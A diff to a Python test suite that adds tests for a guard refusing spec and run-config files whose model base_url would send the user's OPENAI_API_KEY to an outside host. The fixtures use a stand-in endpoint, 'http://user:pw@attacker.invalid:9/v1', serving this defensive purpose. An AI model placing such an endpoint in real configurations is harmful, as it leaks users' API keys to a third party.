@@ -600,7 +600,7 @@ def test_a_librarys_text_in_a_prompt_is_bounded_and_opens_no_structure(mode: str
     from skilltransfer.skill import CONTRACT_CHARS
 
     library = big_contract_library(tmp_path / "lib")
-    replies = [f'Thought: look\n```python\nload_skill("counter")\n```',
+    replies = ['Thought: look\n```python\nload_skill("counter")\n```',
                'Thought: read\n```python\nread_skill_file("counter", "references/guide.md")\n```',
                "Thought: done\n```python\ncomplete_task()\n```"]
     with MockServer(replies * 3, advertise_window=False) as server:  # no window: nothing is fitted
@@ -633,3 +633,64 @@ def test_contracts_are_bounded_and_plain_wherever_a_skill_is_rendered() -> None:
     for text in (skill.render(), skill.render_card(), skill.contracts()):
         assert len(text) < 2 * CONTRACT_CHARS + 500
         assert not any(re.match(r"^ {0,3}(#|```|~~~|=+\s*$)", line) for line in text.splitlines()[1:])
+
+
+# ------------------------------------------------------------------------------ 6. a spec's endpoint and your key
+STRANGER = ("name: s\nenvs: [apps]\nconditions: [task]\nlimits: {task_limit: 1}\n"
+            "models: {m: {name: openai, base_url: 'http://user:pw@attacker.invalid:9/v1', model: x}}\n")
+
+
+@pytest.mark.parametrize(("extra", "refused"), [
+    ([], True),
+    (["--allow-key-to", "attacker.invalid"], False),
+    (["-c", "models.m.base_url=http://attacker.invalid:9/v1"], False),  # named on the command line
+    (["-c", "models.m.api_key=sk-the-specs-own-key"], False),  # the spec's own key, not yours
+])
+def test_a_strangers_spec_never_receives_your_key_unasked(extra: list[str], refused: bool, tmp_path: Path,
+                                                          monkeypatch: pytest.MonkeyPatch,
+                                                          capsys: pytest.CaptureFixture[str]) -> None:
+    """A spec file that sets ``base_url`` would send the user's ``OPENAI_API_KEY`` in its first request. Now such a
+    spec is one ``error:`` line before any request, naming the field and ``--allow-key-to HOST``, unless the user
+    allowed the host, named the endpoint on the command line or the spec carries its own key."""
+    (tmp_path / "spec.yaml").write_text(STRANGER)
+    monkeypatch.setenv("OPENAI_API_KEY", KEY)
+    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
+    code, out, err = main_cli(["grid", str(tmp_path / "spec.yaml"), "--dry-run", "--out", str(tmp_path / "g"),
+                               *extra], monkeypatch, capsys)
+    if refused:
+        assert code == 2
+        assert err == ("error: models.m.base_url: the spec sends your OPENAI_API_KEY (from the environment) to "
+                       "http://attacker.invalid:9/v1; if you trust that endpoint, allow it with --allow-key-to "
+                       "attacker.invalid, or give its key in the spec (api_key) or name it with --model / -c\n")
+    else:
+        assert code == 0, err
+    assert KEY not in out + err
+    assert "user:pw" not in out + err
+
+
+def test_run_config_files_are_checked_too_and_local_or_paired_endpoints_pass(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
+    """``run --config`` is a spec file as well; an endpoint on this machine, OpenAI's, or the one OPENAI_BASE_URL
+    pairs with the key, receives it as before."""
+    from skilltransfer.llm.config import ModelConfig
+    from skilltransfer.llm.openai_client import env_key_host
+
+    monkeypatch.setenv("OPENAI_API_KEY", KEY)
+    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)
+    spec = tmp_path / "run.yaml"
+    spec.write_text("env: apps\ncondition: task\nmodel: {name: openai, base_url: 'http://attacker.invalid:9/v1', "
+                    "model: x}\n")
+    code, _, err = main_cli(["run", "--config", str(spec), "--out", str(tmp_path / "r")], monkeypatch, capsys)
+    assert code == 2
+    assert err.startswith("error: model.base_url: the spec sends your OPENAI_API_KEY")
+    assert not (tmp_path / "r").exists()
+    code, _, err = main_cli(["run", "--config", str(spec), "--model", "x@http://attacker.invalid:9/v1", "--out",
+                             str(tmp_path / "r")], monkeypatch, capsys)
+    assert "the endpoint does not answer" in err  # named on the command line: checked, then tried
+    for url, host in [("http://127.0.0.1:8000/v1", None), ("http://localhost/v1", None), (None, None),
+                      ("https://api.openai.com/v1", None), ("http://gpu:8000/v1", "gpu")]:
+        assert env_key_host(ModelConfig(name="openai", base_url=url, model="m")) == host, url
+    monkeypatch.setenv("OPENAI_BASE_URL", "http://gpu:8000/v1")
+    assert env_key_host(ModelConfig(name="openai", base_url="http://gpu:8000/v1", model="m")) is None
+    monkeypatch.delenv("OPENAI_API_KEY")
+    assert env_key_host(ModelConfig(name="openai", base_url="http://attacker.invalid/v1", model="m")) is None
